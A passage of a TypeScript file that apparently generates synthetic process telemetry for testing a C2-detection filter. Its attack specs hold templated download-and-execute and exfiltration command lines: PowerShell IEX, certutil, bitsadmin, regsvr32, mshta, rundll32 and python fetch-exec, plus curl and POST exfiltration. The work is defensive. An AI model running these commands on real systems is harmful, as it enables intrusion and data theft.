/**
 * What runs on the simulated hosts: the long-lived processes each host already has, the
 * short-lived ones created during the batch (with their command lines), and the attacker's
 * processes that planted matches use.
 */
import type { AccountKind, BinaryId, DomainPool, ProcClass } from './world.ts';

export interface ProcSpec {
  bin: BinaryId;
  cls: ProcClass;
  net?: DomainPool;
  account: AccountKind;
  parent: BinaryId;
  /** Command lines (unescaped); `{u}` user, `{r}` random hex, `{n}` small number. */
  cmds: readonly string[];
  integrity: 'System' | 'High' | 'Medium';
}

export interface SpawnSpec extends ProcSpec {
  weight: number;
}

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
const EDGE = 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe';

/** Running before the batch on every Windows host (never created nor ended in it). */
export const PERSISTENT_WIN: readonly ProcSpec[] = [
  {
    bin: 'svchost',
    cls: 'app',
    net: 'svchost',
    account: 'network',
    parent: 'services',
    integrity: 'System',
    cmds: ['C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s Dnscache'],
  },
  {
    bin: 'svchost',
    cls: 'app',
    net: 'svchost',
    account: 'system',
    parent: 'services',
    integrity: 'System',
    cmds: ['C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv'],
  },
  {
    bin: 'svchost',
    cls: 'quiet',
    account: 'local',
    parent: 'services',
    integrity: 'System',
    cmds: ['C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p'],
  },
  {
    bin: 'explorer',
    cls: 'quiet',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: ['C:\\Windows\\Explorer.EXE'],
  },
  {
    bin: 'lsass',
    cls: 'quiet',
    account: 'system',
    parent: 'services',
    integrity: 'System',
    cmds: ['C:\\Windows\\system32\\lsass.exe'],
  },
  {
    bin: 'msMpEng',
    cls: 'app',
    net: 'defender',
    account: 'system',
    parent: 'services',
    integrity: 'System',
    cmds: [
      '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe"',
    ],
  },
  {
    bin: 'searchIndexer',
    cls: 'quiet',
    account: 'system',
    parent: 'services',
    integrity: 'System',
    cmds: ['C:\\Windows\\system32\\SearchIndexer.exe /Embedding'],
  },
  {
    bin: 'searchApp',
    cls: 'app',
    net: 'search',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: [
      '"C:\\Windows\\SystemApps\\Microsoft.Windows.Search_cw5n1h2txyewy\\SearchApp.exe" -ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca',
    ],
  },
  {
    bin: 'chrome',
    cls: 'excluded',
    net: 'browser',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [`"${CHROME}" `],
  },
  {
    bin: 'msedge',
    cls: 'excluded',
    net: 'browser',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [`"${EDGE}" --profile-directory=Default`],
  },
  {
    bin: 'onedrive',
    cls: 'excluded',
    net: 'onedrive',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: ['"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background'],
  },
  {
    bin: 'teams',
    cls: 'excluded',
    net: 'teams',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --process-start-time 133524816123456789 --system-initiated',
    ],
  },
  {
    bin: 'outlook',
    cls: 'app',
    net: 'office',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" '],
  },
  {
    bin: 'clickToRun',
    cls: 'app',
    net: 'office',
    account: 'system',
    parent: 'services',
    integrity: 'System',
    cmds: [
      '"C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeClickToRun.exe" /service',
    ],
  },
];
/** A per-user install in AppData reaching medium-tier APIs: branch c must not hold (SPEC §1). */
const ZOOM = {
  bin: 'zoom',
  cls: 'app',
  net: 'peruser',
  account: 'user',
  parent: 'explorer',
  integrity: 'Medium',
} as const;

/** Present on some hosts only (developers, Slack users, per-user installs under AppData). */
export const PERSISTENT_OPTIONAL: readonly (readonly [ProcSpec, number])[] = [
  [
    {
      bin: 'vscode',
      cls: 'app',
      net: 'vscode',
      account: 'user',
      parent: 'explorer',
      integrity: 'Medium',
      cmds: ['"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" '],
    },
    0.3,
  ],
  [
    {
      bin: 'slack',
      cls: 'excluded',
      net: 'slack',
      account: 'user',
      parent: 'explorer',
      integrity: 'Medium',
      cmds: ['"C:\\Users\\{u}\\AppData\\Local\\slack\\slack.exe" --process-start-args --startup'],
    },
    0.3,
  ],
  [
    {
      bin: 'spotify',
      cls: 'app',
      net: 'peruser',
      account: 'user',
      parent: 'explorer',
      integrity: 'Medium',
      cmds: ['"C:\\Users\\{u}\\AppData\\Roaming\\Spotify\\Spotify.exe" --autostart --minimized'],
    },
    0.2,
  ],
  [{ ...ZOOM, cmds: ['"C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --autostart'] }, 0.3],
  [
    {
      bin: 'firefox',
      cls: 'excluded',
      net: 'browser',
      account: 'user',
      parent: 'explorer',
      integrity: 'Medium',
      cmds: ['"C:\\Program Files\\Mozilla Firefox\\firefox.exe" '],
    },
    0.2,
  ],
];

export const PERSISTENT_LIN: readonly ProcSpec[] = [
  {
    bin: 'lsystemd',
    cls: 'quiet',
    account: 'user',
    parent: 'lsystemd',
    integrity: 'System',
    cmds: ['/sbin/init splash'],
  },
  {
    bin: 'lsshd',
    cls: 'quiet',
    account: 'user',
    parent: 'lsystemd',
    integrity: 'System',
    cmds: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'],
  },
  {
    bin: 'ljava',
    cls: 'app',
    net: 'linux',
    account: 'user',
    parent: 'lsystemd',
    integrity: 'System',
    cmds: [
      '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx2g -jar /opt/jenkins/agent.jar -jnlpUrl https://jenkins.corp.example.com/computer/lnx/jenkins-agent.jnlp',
    ],
  },
];

/** Created during the batch on Windows hosts: spawn weights and command lines. */
export const SPAWN_WIN: readonly SpawnSpec[] = [
  {
    weight: 14,
    bin: 'svchost',
    cls: 'app',
    net: 'svchost',
    account: 'system',
    parent: 'services',
    integrity: 'System',
    cmds: [
      'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS',
      'C:\\Windows\\System32\\svchost.exe -k wsappx -p -s ClipSVC',
      'C:\\Windows\\system32\\svchost.exe -k appmodel -p -s camsvc',
      'C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s WpnUserService_{r}',
    ],
  },
  {
    weight: 9,
    bin: 'conhost',
    cls: 'quiet',
    account: 'user',
    parent: 'cmd',
    integrity: 'Medium',
    cmds: ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  },
  {
    weight: 6,
    bin: 'runtimeBroker',
    cls: 'quiet',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: ['C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'],
  },
  {
    weight: 5,
    bin: 'backgroundTaskHost',
    cls: 'quiet',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: [
      '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
    ],
  },
  {
    weight: 5,
    bin: 'taskhostw',
    cls: 'quiet',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: ['taskhostw.exe KEYROAMING', 'taskhostw.exe Install $(Arg0)'],
  },
  {
    weight: 5,
    bin: 'searchProtocolHost',
    cls: 'quiet',
    account: 'system',
    parent: 'searchIndexer',
    integrity: 'System',
    cmds: [
      '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ',
    ],
  },
  {
    weight: 4,
    bin: 'wmiPrvSe',
    cls: 'quiet',
    account: 'network',
    parent: 'svchost',
    integrity: 'System',
    cmds: [
      'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
      'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding',
    ],
  },
  {
    weight: 4,
    bin: 'dllhost',
    cls: 'quiet',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: [
      'C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}',
      'C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}',
    ],
  },
  {
    weight: 2,
    bin: 'smartscreen',
    cls: 'quiet',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: ['C:\\Windows\\System32\\smartscreen.exe -Embedding'],
  },
  {
    weight: 1,
    bin: 'consent',
    cls: 'quiet',
    account: 'system',
    parent: 'svchost',
    integrity: 'System',
    cmds: ['consent.exe {n} 362 00000298E04230D0'],
  },
  {
    weight: 1,
    bin: 'wermgr',
    cls: 'app',
    net: 'svchost',
    account: 'system',
    parent: 'svchost',
    integrity: 'System',
    cmds: ['C:\\Windows\\system32\\wermgr.exe -upload'],
  },
  {
    weight: 8,
    bin: 'chrome',
    cls: 'excluded',
    net: 'browser',
    account: 'user',
    parent: 'chrome',
    integrity: 'Medium',
    cmds: [
      `"${CHROME}" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1709280000{n} --launch-time-ticks=8123{n} --mojo-platform-channel-handle=4512 --field-trial-handle=1948,i,{r},262144 /prefetch:1`,
      `"${CHROME}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2140 --field-trial-handle=1948,i,{r},262144 /prefetch:8`,
    ],
  },
  {
    weight: 6,
    bin: 'msedge',
    cls: 'excluded',
    net: 'browser',
    account: 'user',
    parent: 'msedge',
    integrity: 'Medium',
    cmds: [
      `"${EDGE}" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n} --mojo-platform-channel-handle=5944 --field-trial-handle=2012,i,{r},262144 /prefetch:1`,
    ],
  },
  {
    weight: 1,
    bin: 'teams',
    cls: 'excluded',
    net: 'teams',
    account: 'user',
    parent: 'teams',
    integrity: 'Medium',
    cmds: [
      '"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --field-trial-handle=1760,{r} --lang=en-US --app-path="C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\resources\\app.asar"',
    ],
  },
  {
    weight: 2,
    bin: 'winword',
    cls: 'app',
    net: 'office',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\{u}\\Documents\\Q{n} planning.docx" /o ""',
    ],
  },
  {
    weight: 2,
    bin: 'excel',
    cls: 'app',
    net: 'office',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\{u}\\OneDrive - Corp\\Budget {n}.xlsx"',
    ],
  },
  {
    weight: 1,
    bin: 'acrord32',
    cls: 'app',
    net: 'office',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      '"C:\\Program Files (x86)\\Adobe\\Acrobat Reader DC\\Reader\\AcroRd32.exe" "C:\\Users\\{u}\\Downloads\\report-{r}.pdf"',
    ],
  },
  {
    weight: 1,
    bin: 'notepad',
    cls: 'quiet',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: ['"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\{u}\\Desktop\\notes.txt'],
  },
  {
    weight: 1,
    bin: 'mstsc',
    cls: 'quiet',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: ['"C:\\Windows\\system32\\mstsc.exe" /v:SRV-OPS-{n}.corp.example.com'],
  },
  {
    weight: 1,
    ...ZOOM,
    cmds: [
      '"C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" "--url=zoommtg://zoom.us/join?action=join&confno={n}"',
    ],
  },
  {
    weight: 2,
    bin: 'git',
    cls: 'app',
    net: 'dev',
    account: 'user',
    parent: 'vscode',
    integrity: 'Medium',
    cmds: [
      '"C:\\Program Files\\Git\\mingw64\\bin\\git.exe" fetch --all --prune',
      '"C:\\Program Files\\Git\\mingw64\\bin\\git.exe" -c core.quotepath=false -c color.ui=false status -z -uall',
    ],
  },
  // Suspicious names, benign work: the false-positive pressure the pre-filter must survive.
  {
    weight: 7,
    bin: 'powershell',
    cls: 'suspicious',
    net: 'admin',
    account: 'system',
    parent: 'svchost',
    integrity: 'System',
    cmds: [
      `"${PS}" -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\\ProgramData\\Corp\\Scripts\\Inventory.ps1"`,
      `${PS} -ExecutionPolicy Restricted -Command Write-Host 'Final result: 1';`,
      `"${PS}" -NoLogo -Command "Get-Service | Where-Object {$_.Status -eq 'Running'} > C:\\Windows\\Temp\\svc-{r}.txt"`,
      `"${PS}" -Command "Invoke-WebRequest -Uri https://www.powershellgallery.com/api/v2/package/PSWindowsUpdate -OutFile $env:TEMP\\p.zip"`,
      `"${PS}" -c "Test-NetConnection fileserver01.corp.example.com -Port 445"`,
      `"${PS}" -c "$r = iwr 'https://intranet.corp.example.com/api/status?host=$env:COMPUTERNAME&check=1&v=2' -UseBasicParsing"`,
      `"${PS}" -c "(iwr https://aka.ms/powershell-release?tag=stable -UseBasicParsing).Content | Out-Null"`,
      // Look-alikes of listed hosts in URLs: no process-start event (SPEC §1, label boundary).
      `"${PS}" -c "iwr https://evilpastebin.com/raw/{r} -OutFile $env:TEMP\\lookalike.txt"`,
      `"${PS}" -c "iwr https://github.com.evil.io/{r}/t.ps1 -OutFile $env:TEMP\\lookalike2.txt"`,
    ],
  },
  {
    weight: 3,
    bin: 'powershell',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      `"${PS}" `,
      `"${PS}" -NoExit -Command "Set-Location C:\\Users\\{u}"`,
      `"${PS}" -c "Install-Module Az -Scope CurrentUser -Force"`,
    ],
  },
  {
    weight: 1,
    bin: 'pwsh',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoProfile -Command "Update-Help -ErrorAction SilentlyContinue"',
    ],
  },
  {
    weight: 6,
    bin: 'cmd',
    cls: 'suspicious',
    net: 'admin',
    account: 'system',
    parent: 'svchost',
    integrity: 'System',
    cmds: [
      'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Corp\\agent\\check.bat" "',
      'C:\\Windows\\system32\\cmd.exe /c echo %date% %time% >> C:\\ProgramData\\Corp\\heartbeat.log',
      'cmd /c ipconfig /all & netstat -ano > C:\\Windows\\Temp\\net-{r}.txt',
      'C:\\Windows\\system32\\cmd.exe /c net use Z: \\\\fileserver01.corp.example.com\\share /persistent:no',
    ],
  },
  {
    weight: 2,
    bin: 'cmd',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: [
      '"C:\\Windows\\system32\\cmd.exe" ',
      'cmd.exe /c "C:\\Users\\{u}\\Desktop\\map drives.bat"',
    ],
  },
  {
    weight: 4,
    bin: 'rundll32',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'svchost',
    integrity: 'Medium',
    cmds: [
      'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding',
      'rundll32.exe C:\\Windows\\System32\\LogiLDA.dll,LogiFetch',
      'rundll32.exe printui.dll,PrintUIEntry /in /n \\\\print01.corp.example.com\\HP-3F',
      '"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:{n} WinX:0 WinY:0 IEFrame:0000000000000000',
    ],
  },
  {
    weight: 1,
    bin: 'regsvr32',
    cls: 'suspicious',
    net: 'admin',
    account: 'system',
    parent: 'cmd',
    integrity: 'System',
    cmds: ['regsvr32.exe /s "C:\\Program Files\\Common Files\\microsoft shared\\ink\\tipband.dll"'],
  },
  {
    weight: 1,
    bin: 'certutil',
    cls: 'suspicious',
    net: 'admin',
    account: 'system',
    parent: 'cmd',
    integrity: 'System',
    cmds: [
      'certutil.exe -store my',
      'certutil -verify -urlfetch C:\\ProgramData\\Corp\\certs\\proxy.cer',
    ],
  },
  {
    weight: 1,
    bin: 'cscript',
    cls: 'suspicious',
    net: 'admin',
    account: 'system',
    parent: 'cmd',
    integrity: 'System',
    cmds: ['cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli'],
  },
  {
    weight: 1,
    bin: 'wscript',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'explorer',
    integrity: 'Medium',
    cmds: ['"C:\\Windows\\System32\\WScript.exe" "\\\\dc01.corp.example.com\\NETLOGON\\logon.vbs"'],
  },
  {
    weight: 1,
    bin: 'wmic',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'cmd',
    integrity: 'Medium',
    cmds: [
      'wmic computersystem get model,manufacturer /value',
      'wmic logicaldisk get size,freespace,caption',
    ],
  },
  {
    weight: 1,
    bin: 'curl',
    cls: 'suspicious',
    net: 'admin',
    account: 'user',
    parent: 'cmd',
    integrity: 'Medium',
    cmds: [
      'curl.exe -s https://intranet.corp.example.com/health',
      'curl -I https://www.microsoft.com',
      'curl.exe -sL -o %TEMP%\\node.zip https://nodejs.org/dist/v20.11.0/node-v20.11.0-win-x64.zip',
      'curl.exe -s https://dash.myworkers.dev/status',
    ],
  },
  {
    weight: 2,
    bin: 'python',
    cls: 'suspicious',
    net: 'dev',
    account: 'user',
    parent: 'vscode',
    integrity: 'Medium',
    cmds: [
      '"C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe" -m pip install --upgrade requests',
      '"C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe" manage.py runserver 0.0.0.0:8000',
    ],
  },
  {
    weight: 1,
    bin: 'node',
    cls: 'suspicious',
    net: 'dev',
    account: 'user',
    parent: 'vscode',
    integrity: 'Medium',
    cmds: [
      '"C:\\Program Files\\nodejs\\node.exe" "C:\\Program Files\\nodejs\\node_modules\\npm\\bin\\npm-cli.js" install',
      '"C:\\Program Files\\nodejs\\node.exe" C:\\Users\\{u}\\source\\app\\server.js',
    ],
  },
];

export const SPAWN_LIN: readonly SpawnSpec[] = [
  {
    weight: 5,
    bin: 'bash',
    cls: 'quiet',
    account: 'user',
    parent: 'lsshd',
    integrity: 'System',
    cmds: ['-bash', 'bash -c /opt/ci/run-step.sh'],
  },
  {
    weight: 3,
    bin: 'lcron',
    cls: 'quiet',
    account: 'user',
    parent: 'lsystemd',
    integrity: 'System',
    cmds: ['/usr/sbin/CRON -f -P'],
  },
  {
    weight: 2,
    bin: 'lapt',
    cls: 'app',
    net: 'linux',
    account: 'user',
    parent: 'bash',
    integrity: 'System',
    cmds: ['apt-get update -qq', 'apt-get install -y --no-install-recommends jq'],
  },
  {
    weight: 2,
    bin: 'lcurl',
    cls: 'suspicious',
    net: 'linux',
    account: 'user',
    parent: 'bash',
    integrity: 'System',
    cmds: [
      'curl -fsS https://archive.ubuntu.com/ubuntu/dists/jammy/Release',
      'curl -s http://169.254.169.254/latest/meta-data/instance-id',
    ],
  },
  {
    weight: 2,
    bin: 'lpython',
    cls: 'suspicious',
    net: 'linux',
    account: 'user',
    parent: 'bash',
    integrity: 'System',
    cmds: [
      'python3.11 -m pip install -r requirements.txt',
      'python3.11 /opt/ci/report.py --since 1h',
    ],
  },
];

/**
 * The tiers of listed domains a planted process matches, by SPEC §1 clauses 3 and 4 as the
 * generator decides them for what it plants: every tier (suspicious name or Office/PDF parent),
 * the high tier only (an image in a user-writable path, branch c), or none (an excluded client
 * at home).
 */
export type Reach = 'any' | 'high' | 'none';

/** An attacker's process (or a decoy), talking to or naming a listed host. */
export interface AttackSpec {
  weight: number;
  bin: BinaryId;
  parent: BinaryId;
  account: AccountKind;
  /** Which tiers its events match (default 'any': suspicious by name or by its parent). */
  reach?: Reach;
  /**
   * The reach where no OriginalFileName names the process (Falcon): a renamed binary is then
   * only what its name and path say. Default: `reach`.
   */
  reachWithoutIdentity?: Reach;
  /** Command line carrying the C2 URL (used by the command-line join). */
  withUrl: readonly ((url: string) => string)[];
  /** Command line without any URL (only DNS can name the destination). */
  withoutUrl: readonly string[];
}

/**
 * A process whose only trace is its command line (SPEC §1 process-start events): a BITS job
 * (the BITS service makes the connection), `Start-BitsTransfer`, a renamed downloader.
 */
export interface FetchSpec {
  weight: number;
  bin: BinaryId;
  parent: BinaryId;
  account: AccountKind;
  reach: Reach;
  reachWithoutIdentity?: Reach;
  /** The command line for one or more URLs (each a remote file, with its local destination). */
  cmd: (urls: readonly string[]) => string;
  /** How many URLs the command line can carry. */
  maxUrls: number;
}

export const ATTACKS_WIN: readonly AttackSpec[] = [
  {
    weight: 12,
    bin: 'powershell',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) => `"${PS}" -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('${u}')"`,
      (u) =>
        `powershell.exe -ExecutionPolicy Bypass -c "$d = iwr -UseBasicParsing '${u}'; iex $d.Content"`,
      (u) =>
        `"${PS}" -c "Invoke-RestMethod -Uri '${u}?id=$env:COMPUTERNAME&k=7' -Method Post -Body (whoami)"`,
    ],
    withoutUrl: [
      `"${PS}" -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`,
      `"${PS}" -ep bypass -File C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.ps1`,
    ],
  },
  {
    weight: 3,
    bin: 'pwsh',
    parent: 'explorer',
    account: 'user',
    withUrl: [(u) => `"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -c "irm '${u}' | iex"`],
    withoutUrl: [
      '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -File C:\\ProgramData\\svc\\sync.ps1',
    ],
  },
  {
    weight: 4,
    bin: 'mshta',
    parent: 'explorer',
    account: 'user',
    withUrl: [
      (u) => `mshta.exe ${u}`,
      (u) =>
        `"C:\\Windows\\system32\\mshta.exe" vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -c iwr ${u}"":close")`,
    ],
    withoutUrl: [
      '"C:\\Windows\\system32\\mshta.exe" "C:\\Users\\{u}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta"',
    ],
  },
  {
    weight: 3,
    bin: 'rundll32',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) =>
        `rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:${u}")`,
    ],
    withoutUrl: [
      '"C:\\Windows\\system32\\rundll32.exe" C:\\Users\\{u}\\AppData\\Local\\Temp\\{r}.dll,DllRegisterServer',
    ],
  },
  {
    weight: 3,
    bin: 'regsvr32',
    parent: 'cmd',
    account: 'user',
    withUrl: [(u) => `regsvr32.exe /s /n /u /i:${u} scrobj.dll`],
    withoutUrl: ['regsvr32.exe /s C:\\Users\\{u}\\AppData\\Local\\Temp\\{r}.dll'],
  },
  {
    weight: 4,
    bin: 'certutil',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) => `certutil.exe -urlcache -split -f ${u} C:\\Users\\Public\\{r}.exe`,
      (u) => `certutil -urlcache -f "${u}" %TEMP%\\a.txt`,
    ],
    withoutUrl: ['certutil.exe -decode C:\\Users\\Public\\{r}.b64 C:\\Users\\Public\\{r}.exe'],
  },
  {
    weight: 2,
    bin: 'bitsadmin',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) =>
        `bitsadmin.exe /transfer myjob /download /priority high ${u} C:\\Users\\Public\\{r}.exe`,
    ],
    withoutUrl: ['bitsadmin /resume myjob'],
  },
  {
    weight: 3,
    bin: 'curl',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) => `curl.exe -s -o C:\\Users\\Public\\{r}.ps1 ${u}`,
      (u) => `curl -sk -X POST -d @C:\\Users\\Public\\o.txt "${u}"`,
    ],
    withoutUrl: ['curl.exe -s -K C:\\Users\\Public\\c.cfg'],
  },
  {
    weight: 2,
    bin: 'wscript',
    parent: 'explorer',
    account: 'user',
    withUrl: [
      (u) =>
        `"C:\\Windows\\System32\\WScript.exe" //B //E:jscript C:\\Users\\{u}\\AppData\\Roaming\\upd.js ${u}`,
    ],
    withoutUrl: [
      '"C:\\Windows\\System32\\WScript.exe" //B C:\\Users\\{u}\\AppData\\Roaming\\upd.js',
    ],
  },
  {
    weight: 2,
    bin: 'cscript',
    parent: 'cmd',
    account: 'user',
    withUrl: [(u) => `cscript.exe //nologo C:\\Users\\Public\\get.vbs ${u}`],
    withoutUrl: ['cscript.exe //nologo C:\\Users\\Public\\beacon.vbs'],
  },
  {
    weight: 2,
    bin: 'wmic',
    parent: 'cmd',
    account: 'user',
    withUrl: [(u) => `wmic  process list /FORMAT:"${u}"`],
    withoutUrl: ['wmic process call create "C:\\Users\\Public\\{r}.exe"'],
  },
  {
    weight: 3,
    bin: 'python',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) =>
        `"C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe" -c "import urllib.request as u;exec(u.urlopen('${u}').read())"`,
    ],
    withoutUrl: [
      '"C:\\Users\\{u}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe" C:\\Users\\{u}\\AppData\\Local\\Temp\\bot.py',
    ],
  },
  {
    weight: 1,
    bin: 'node',
    parent: 'cmd',
    account: 'user',
    withUrl: [
      (u) =>
        `"C:\\Program Files\\nodejs\\node.exe" -e "require('https').get('${u}',r=>r.pipe(process.stdout))"`,
    ],
    withoutUrl: [
      '"C:\\Program Files\\nodejs\\node.exe" C:\\Users\\{u}\\AppData\\Roaming\\npm\\sync.js',
    ],
  },
  {
    weight: 2,
    bin: 'cmd',
    parent: 'winword',
    account: 'user',
    withUrl: [(u) => `cmd.exe /c curl -s ${u} -o %TEMP%\\x.bat & %TEMP%\\x.bat`],
    withoutUrl: ['C:\\Windows\\system32\\cmd.exe /c C:\\Users\\{u}\\AppData\\Local\\Temp\\x.bat'],
  },
];
/** Not suspicious by name: matches through its Office parent (SPEC §1 branch b), any tier. */
export const ATTACK_OFFICE_CHILD: AttackSpec = {
  weight: 0,
  reach: 'any',
  bin: 'dropper',
  parent: 'winword',
  account: 'user',
  withUrl: [(u) => `"C:\\Users\\{u}\\AppData\\Local\\Temp\\InvoiceViewer.exe" --update ${u}`],
  withoutUrl: ['"C:\\Users\\{u}\\AppData\\Local\\Temp\\InvoiceViewer.exe" '],
};
/**
 * PowerShell renamed chrome.exe in C:\\Users\\Public: Sysmon's OriginalFileName says PowerShell
 * (any tier); Falcon sees only a chrome.exe away from Chrome's home, in a user-writable path.
 */
export const ATTACK_RENAMED: AttackSpec = {
  weight: 0,
  reach: 'any',
  reachWithoutIdentity: 'high',
  bin: 'renamedPowershell',
  parent: 'cmd',
  account: 'user',
  withUrl: [(u) => `C:\\Users\\Public\\chrome.exe -nop -c "iwr ${u} | iex"`],
  withoutUrl: ['C:\\Users\\Public\\chrome.exe -nop -w hidden -File C:\\Users\\Public\\s.ps1'],
};
export const ATTACKS_LIN: readonly AttackSpec[] = [
  {
    weight: 3,
    bin: 'lcurl',
    parent: 'bash',
    account: 'user',
    withUrl: [(u) => `curl -fsSL ${u} -o /tmp/.x`],
    withoutUrl: ['curl -fsSL -K /tmp/.c'],
  },
  {
    weight: 2,
    bin: 'lwget',
    parent: 'bash',
    account: 'user',
    withUrl: [(u) => `wget -q -O- ${u}`],
    withoutUrl: ['wget -q -i /tmp/.list'],
  },
  {
    weight: 2,
    bin: 'lpython',
    parent: 'bash',
    account: 'user',
    withUrl: [
      (u) => `python3.11 -c "import urllib.request;exec(urllib.request.urlopen('${u}').read())"`,
    ],
    withoutUrl: ['python3.11 /tmp/.cache/agent.py'],
  },
];

/** Implants dropped in user-writable paths, not suspicious by name (SPEC §1 branch c). */
export const ATTACK_IMPLANTS: readonly AttackSpec[] = [
  {
    weight: 3,
    reach: 'high',
    bin: 'implantRoaming',
    parent: 'explorer',
    account: 'user',
    withUrl: [
      (u) =>
